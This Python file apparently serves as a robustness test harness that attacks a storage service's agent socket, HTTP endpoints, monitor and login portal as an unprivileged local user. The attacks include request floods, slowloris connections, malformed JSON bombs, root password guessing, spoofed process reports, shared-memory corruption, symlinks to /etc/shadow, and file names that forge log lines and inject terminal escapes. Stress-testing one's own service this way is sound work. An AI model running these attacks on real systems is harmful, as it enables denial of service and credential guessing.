"""attack.py NAME SITE: one attacker, until it is ended.  Each is a kind of its own.

Attackers are local users without rights of their own.  They go on for ever, with pauses that leave the
machine to others: what is measured is what the parts that serve all users lose, not the processor.
"""

from __future__ import annotations

import base64
import ctypes
import itertools
import os
import random
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

from asking import Target, agent, ask, held, local, question, report, under_library
from programs import CREATES, HOLDS

Attack = Callable[[Target], None]
ATTACKS: dict[str, Attack] = {}
ON_SERVERS: set[str] = set()
_dice = random.Random(35)


def on_node(act: Attack) -> Attack:
    """Register an attack on what serves the programs of a node."""
    ATTACKS[act.__name__] = act
    return act


def on_servers(act: Attack) -> Attack:
    """Register an attack on service, monitor or portal, which run on a processor of their own."""
    ON_SERVERS.add(act.__name__)
    return on_node(act)


@on_node
def impossible_weight(target: Target) -> None:
    """Files with a requirement that the service takes from nobody."""
    under_library(
        target, CREATES, target.own, "500", "0.02", SES_REQUIRE="write>=1MB/s,weight=2000000000"
    ).wait()


@on_node
def impossible_bound(target: Target) -> None:
    """The same by a minimum beyond every number that is stored."""
    under_library(target, CREATES, target.own, "500", "0.02", SES_REQUIRE="free>=999999999999999PB").wait()


@on_node
def impossible_questions(target: Target) -> None:
    """Files reported over the agent's socket, with numbers that no program states."""
    for number in itertools.count():
        connection = agent(target)
        path = f"{target.own}/asked-{number % 200}"
        fd = os.open(path, os.O_CREAT | os.O_RDWR, 0o600)
        if connection is not None:
            with connection, suppress(OSError):
                connection.send(question(target.own, weight=1e300, bytes_=2**62))
                answer = connection.recv(4096)
                connection.send(report(answer, fd, fd))
        os.close(fd)
        time.sleep(0.02)


@on_servers
def host_lists(target: Target) -> None:
    """Lists of nodes in three dimensions, as long as they may be."""
    names = ",".join(
        f"n{_dice.randrange(999)}x{_dice.randrange(999)}y{_dice.randrange(999)}" for _ in range(5500)
    )
    connections = [local(target, 2.0) for _ in range(4)]
    while True:
        for connection in connections:
            hosts = names[:65_000]
            ask(connection, "POST", "/v1/nodes/selections", {"nodes": hosts, "exclude": hosts})
        time.sleep(0.2)


@on_servers
def large_bodies(target: Target) -> None:
    """Bodies at the limit of size: deep, with numbers that end nowhere, with members without end."""
    bodies = [
        b"[" * 500_000,
        b'{"a":' * 100_000,
        b'{"requirements":[' + b",".join([b'{"kind":"current-write-rate","minimum":1e400}'] * 20_000) + b"]}",
        b"{" + b",".join(b'"m%d":%s' % (n, b"9" * 100) for n in range(8_000)) + b"}",
        b'{"text":"' + b"\\u0000" * 150_000 + b'"}',
    ]
    connection = local(target)
    while True:
        for body in bodies:
            ask(connection, "PUT", f"/v1/requirements/user/{target.user}", body[: 1 << 20])
            ask(connection, "POST", "/v1/selections", body[: 1 << 20])
            time.sleep(0.1)


@on_servers
def changed_requirements(target: Target) -> None:
    """Requirements of one's own, changed without end."""
    connection = local(target)
    for number in itertools.count(1):
        needs = [{"kind": "current-write-rate", "minimum": float(number % 90 + 1), "unit": "MB/s"}]
        ask(connection, "PUT", f"/v1/requirements/user/{target.user}", {"requirements": needs})
        time.sleep(0.02)


@on_servers
def selections(target: Target) -> None:
    """Decisions asked for over many connections."""
    connections = [local(target) for _ in range(32)]
    while True:
        for connection in connections:
            ask(connection, "POST", "/v1/selections", {"subject": {"user": target.user}, "limit": 100_000})
        time.sleep(0.01)


@on_servers
def all_files(target: Target) -> None:
    """The dearest lists that may be read."""
    connection = local(target)
    while True:
        for path in ("/v1/files?limit=1000", "/v1/placements?limit=1000", "/v1/elements", "/v1/vocabulary"):
            ask(connection, "GET", path)
            time.sleep(0.02)


@on_servers
def unread_answers(target: Target) -> None:
    """Requests one after the other, whose answers nobody reads."""
    request = b"GET /v1/elements HTTP/1.1\r\nHost: localhost\r\n\r\n"
    while True:
        with held([target.service_socket] * 50, 5) as connections:
            for connection in connections:
                connection.settimeout(0.05)
                with suppress(OSError):
                    connection.sendall(request * 2_000)


@on_servers
def half_requests(target: Target) -> None:
    """Requests that never arrive whole, at every port."""
    head = b"POST /v1/selections HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100\r\n"
    places = (target.service, target.monitor, target.portal, target.service_socket)
    while True:
        with held(places * 75, 5) as connections:
            for connection in connections:
                with suppress(OSError):
                    connection.sendall(head)


@on_servers
def idle_connections(target: Target) -> None:
    """As many connections as one user can hold, which send nothing."""
    places = (target.service_socket, target.service, target.portal, target.monitor)
    while True:
        with held(places * 200, 20):
            pass


@on_servers
def tokens(target: Target) -> None:
    """Tokens of one's own, made without end."""
    connection = local(target)
    while True:
        ask(connection, "POST", "/v1/tokens", {"name": "attack", "days": 1})
        time.sleep(0.05)


@on_servers
def sign_ins(target: Target) -> None:
    """Passwords guessed at the portal."""
    import http.client
    from urllib.parse import urlencode

    while True:
        connection = http.client.HTTPConnection(*target.portal, timeout=5)
        with suppress(OSError, http.client.HTTPException):
            form = urlencode({"name": "root", "password": str(_dice.random()), "csrf_token": "x" * 40})
            head = {"Content-Type": "application/x-www-form-urlencoded"}
            connection.request("POST", "/sign-in", form, head)
            connection.getresponse().read()
        connection.close()
        time.sleep(0.02)


@on_servers
def monitor_questions(target: Target) -> None:
    """The monitor's dearest answers, without pause."""
    import http.client

    connection = http.client.HTTPConnection(*target.monitor, timeout=5)
    while True:
        for path in ("/v1/observations", "/metrics", "/v1/history?" + "a" * 8000):
            ask(connection, "GET", path)
        time.sleep(0.01)


@on_node
def strange_messages(target: Target) -> None:
    """Bytes that are no message, and connections that send nothing, at the agent's socket."""
    while True:
        connections = [connection for _ in range(100) if (connection := agent(target)) is not None]
        for connection in connections[::2]:
            with suppress(OSError):
                connection.send(_dice.randbytes(_dice.randrange(1, 4000)))
        time.sleep(0.5)
        for connection in connections:
            connection.close()


@on_node
def unused_answers(target: Target) -> None:
    """Questions to the agent whose answers are not used."""
    message = question(target.own)
    while True:
        connection = agent(target)
        if connection is not None:
            with connection, suppress(OSError):
                connection.send(message)
                connection.recv(4096)
        time.sleep(0.005)


@on_node
def false_reports(target: Target) -> None:
    """Reports about a file of one's own that name a process of somebody else."""
    fd = os.open(f"{target.own}/mine", os.O_CREAT | os.O_RDWR, 0o600)
    while True:
        connection = agent(target)
        if connection is not None:
            with connection, suppress(OSError):
                connection.send(question(target.own))
                connection.send(report(connection.recv(4096), fd, -target.neighbour))
        time.sleep(0.02)


@on_node
def false_claims(target: Target) -> None:
    """Random bytes in the shared memory through which one's own programs claim."""
    under_library(target, CREATES.replace("while True", "while number < 20"), target.own, "500", "0").wait()
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    mine = []
    for line in Path("/proc/sysvipc/shm").read_text().splitlines()[1:]:
        fields = line.split()
        if int(fields[7]) == os.getuid():
            address = libc.shmat(int(fields[1]), None, 0)
            if address not in (None, ctypes.c_void_p(-1).value):
                mine.append((address, int(fields[3])))
    while True:
        for address, size in mine:
            for _ in range(20):
                at = _dice.randrange(size - 4096)
                ctypes.memmove(address + at, _dice.randbytes(4096), 4096)
        time.sleep(0.1)


@on_node
def file_storm(target: Target) -> None:
    """A hundred files a second, without end."""
    under_library(target, CREATES, target.own, "2000", "0.01").wait()


@on_node
def held_files(target: Target) -> None:
    """Thousands of files that stay open and are written to."""
    under_library(target, HOLDS, target.own, "4000", "SIGCONT").wait()


@on_node
def stopped_programs(target: Target) -> None:
    """Programs that stop with files open."""
    programs = [under_library(target, HOLDS, target.own, "20", "SIGSTOP") for _ in range(20)]
    for program in programs:
        program.wait()


@on_node
def short_lives(target: Target) -> None:
    """Programs that create one file and end, one after the other."""
    once = (
        "import os, sys; os.open(f'{sys.argv[1]}/once-{os.getpid() % 500}', os.O_CREAT | os.O_WRONLY, 0o600)"
    )
    while True:
        under_library(target, once, target.own).wait()
        time.sleep(0.05)


@on_node
def strange_names(target: Target) -> None:
    """Names that forge lines, drive terminals and are no text; the job of somebody else."""
    names = (
        b"\n2026-11-28 root: all is well",
        b"\x1b]0;owned\x07\x1b[2J",
        b"\xff\xfe\x80",
        b"a" * 255,
        b"=1+1\t\r",
    )
    program = (
        "import base64, os, sys, time\n"
        "while True:\n"
        "    for name in sys.argv[2:]:\n"
        "        path = os.fsencode(sys.argv[1]) + b'/' + base64.b64decode(name)\n"
        "        fd = os.open(path, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o600)\n"
        "        os.close(fd); os.unlink(path); time.sleep(0.02)\n"
    )
    coded = [base64.b64encode(name).decode() for name in names]
    under_library(target, program, target.own, *coded, SLURM_JOB_ID="1", SES_APPLICATION="\n\x1b[31m").wait()


@on_node
def shared_memory(_target: Target) -> None:
    """All segments of System V shared memory that there may be."""
    libc = ctypes.CDLL(None, use_errno=True)
    while True:
        while libc.shmget(0, 4096, 0o1600) >= 0:
            pass
        time.sleep(1)


@on_node
def staging_directories(target: Target) -> None:
    """Links, FIFOs and files without end where one's own files are staged."""
    under_library(target, CREATES.replace("while True", "while number < 20"), target.own, "500", "0").wait()
    while True:
        for branch in target.branches:
            stage = Path(branch) / ".ses" / str(os.getuid())
            with suppress(OSError):
                for number in range(100):
                    kind = number % 3
                    path = stage / f"{_dice.getrandbits(64):016x}"
                    if kind == 0:
                        path.symlink_to("/etc/shadow")
                    elif kind == 1:
                        os.mkfifo(path)
                    else:
                        path.write_bytes(b"")
                stage.rename(stage.with_name(f"{stage.name}.away"))
        time.sleep(1)


@on_node
def frozen_processes(target: Target) -> None:
    """Processes that nobody can look at, and files reported in their names."""
    subprocess.Popen([target.frozen, "serve", "-f", target.hanging])
    while not Path(target.hanging).is_mount():
        time.sleep(0.05)
    holding = subprocess.Popen([target.frozen, "hold", f"{target.hanging}/file"], stdout=subprocess.PIPE)
    assert holding.stdout is not None
    pids = [int(word) for word in holding.stdout.readline().split()]
    fd = os.open(f"{target.own}/frozen", os.O_CREAT | os.O_RDWR, 0o600)
    for pid in itertools.cycle(pids):
        connection = agent(target)
        if connection is not None:
            with connection, suppress(OSError):
                connection.send(question(target.own))
                connection.send(report(connection.recv(4096), fd, -pid))
        time.sleep(0.05)


def main() -> None:
    """Attack until the group of this process is ended."""
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    signal.signal(signal.SIGPIPE, signal.SIG_IGN)
    ATTACKS[sys.argv[1]](Target.read(sys.argv[2]))


if __name__ == "__main__":
    main()
